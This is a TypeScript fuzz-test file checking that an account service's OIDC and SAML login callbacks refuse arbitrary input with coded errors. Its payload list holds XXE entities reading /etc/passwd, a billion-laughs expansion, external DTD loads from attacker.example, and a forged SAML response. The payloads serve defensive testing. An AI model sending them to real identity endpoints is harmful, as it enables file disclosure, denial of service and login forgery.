import {
  codedOutcomeAsync,
  fuzzProperty,
  fuzzRuns,
  fuzzTimeout,
  withinBudgetAsync,
} from '@efa-kit/core/testing';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OidcRelyingParty } from '../server/oidc.js';
import { type SamlServiceProvider, samlDtdRefused } from '../server/saml.js';
import { type AccountTestEnvironment, startAccountTestEnvironment } from '../testing/environment.js';
import { type SamlTestIdentityProvider, startSamlTestIdentityProvider } from '../testing/saml-idp.js';
import { spCert, spKey } from '../testing/saml-keys.js';

// Issue 17: the OIDC and SAML callbacks take whatever a browser posts. Arbitrary query strings
// and SAML responses (arbitrary XML, DTD and entity attacks, base64 noise) must be refused
// with a coded ACCOUNT_… error, within the budget; none may log anyone in.

let env: AccountTestEnvironment;
let idp: SamlTestIdentityProvider;
let saml: SamlServiceProvider;
let oidc: OidcRelyingParty;

beforeAll(async () => {
  idp = await startSamlTestIdentityProvider({ spMetadata: () => saml.metadata() });
  env = await startAccountTestEnvironment({
    extraProviders: (origin) => [
      {
        protocol: 'saml',
        name: 'bundid',
        idpMetadata: idp.metadata,
        spEntityId: `${origin}/saml`,
        signingKey: spKey,
        signingCert: spCert,
        bundId: { onlineServiceId: 'BMI-X0000', organizationDisplayName: 'EfA-Testportal' },
      },
    ],
  });
  saml = env.service.providers.find((p) => p.name === 'bundid') as SamlServiceProvider;
  oidc = env.service.providers.find((p) => p.name === 'dev') as OidcRelyingParty;
});

afterAll(async () => {
  await env?.close();
  await idp?.close();
});

const refusedWithCode = (outcome: { ok: boolean; error?: unknown }) => {
  expect(outcome.ok).toBe(false);
  const code = (outcome.error as { code?: string } | undefined)?.code;
  expect(code).toMatch(/^ACCOUNT_/);
};

const queryValue = fc.oneof(
  fc.string({ maxLength: 60 }),
  fc.constantFrom('', 'access_denied', 'login_required', '%00', '\u0000'),
);
const query = fc.dictionary(
  fc.constantFrom('code', 'state', 'error', 'error_description', 'iss', 'session_state', 'id_token', 'x'),
  queryValue,
  { maxKeys: 6 },
);

const attacks = [
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">&xxe;</samlp:Response>',
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><r>&lol3;</r>',
  '<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>',
  '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>',
  '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="x" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>',
];
const xmlish = fc.string({
  unit: fc.constantFrom(
    '<',
    '>',
    '/',
    '=',
    '"',
    '&',
    ';',
    '!',
    '?',
    ' ',
    'samlp:',
    'Response',
    'x',
    ':',
    '#',
  ),
  maxLength: 120,
});
const samlResponse = fc.oneof(
  fc.constantFrom(...attacks).map((xml) => Buffer.from(xml).toString('base64')),
  fc
    .tuple(fc.constantFrom(...attacks), fc.nat(), fc.string({ maxLength: 10 }))
    .map(([xml, at, text]) =>
      Buffer.from(xml.slice(0, at % xml.length) + text + xml.slice(at % xml.length)).toString('base64'),
    ),
  xmlish.map((xml) => Buffer.from(xml).toString('base64')),
  fc.string({ maxLength: 200 }),
);

describe('fuzz: login callbacks (issue 17)', () => {
  it(
    'OIDC: any callback query is refused with a coded ACCOUNT_ error',
    async () => {
      await fuzzProperty(
        'service-account',
        'OIDC callback arbitrary query',
        (runs) =>
          fc.assert(
            fc.asyncProperty(query, async (params) => {
              const url = new URL(`${env.origin}/auth/callback/dev?${new URLSearchParams(params)}`);
              const outcome = await codedOutcomeAsync(() =>
                withinBudgetAsync(() =>
                  oidc.finish(
                    { url },
                    {
                      state: 'expected-state',
                      nonce: 'n',
                      codeVerifier: 'v'.repeat(43),
                      requestedLevel: 'low',
                    },
                  ),
                ),
              );
              refusedWithCode(outcome);
            }),
            { numRuns: runs },
          ),
        fuzzRuns(50),
      );
    },
    fuzzTimeout(60_000),
  );

  it(
    'SAML: arbitrary, mutated and DTD/entity-laden responses are refused with a coded ACCOUNT_ error',
    async () => {
      await fuzzProperty(
        'service-account',
        'SAML response arbitrary + DTD attacks',
        (runs) =>
          fc.assert(
            fc.asyncProperty(samlResponse, fc.string({ maxLength: 40 }), async (response, relayState) => {
              const form = new URLSearchParams({ SAMLResponse: response, RelayState: relayState });
              const outcome = await codedOutcomeAsync(() =>
                withinBudgetAsync(() =>
                  saml.finish(
                    { url: new URL(`${env.origin}/auth/callback/bundid`), form },
                    { state: 'expected', requestedLevel: 'substantial' },
                  ),
                ),
              );
              refusedWithCode(outcome);
            }),
            { numRuns: runs },
          ),
        fuzzRuns(50),
      );
    },
    fuzzTimeout(60_000),
  );

  it(
    'regression: a SAML response with a DTD is refused before any XML parser reads it',
    async () => {
      // libxml2 tried to load "file:///etc/passwd" from such a response before this check.
      await fuzzProperty(
        'service-account',
        'SAML DTD refused before parsing',
        (runs) =>
          fc.assert(
            fc.asyncProperty(
              fc.constantFrom(...attacks.slice(0, 4)),
              fc.constantFrom('', ' ', '\n', '<?xml version="1.0"?>', '<!-- c -->'),
              async (attack, before) => {
                const form = new URLSearchParams({
                  SAMLResponse: Buffer.from(before + attack).toString('base64'),
                });
                const outcome = await codedOutcomeAsync(() =>
                  saml.finish(
                    { url: new URL(`${env.origin}/auth/callback/bundid`), form },
                    { state: 'expected', requestedLevel: 'substantial' },
                  ),
                );
                refusedWithCode(outcome);
                expect(((outcome as { error?: Error }).error?.cause as Error | undefined)?.message).toBe(
                  samlDtdRefused,
                );
              },
            ),
            { numRuns: runs },
          ),
        fuzzRuns(20),
      );
    },
    fuzzTimeout(),
  );
});
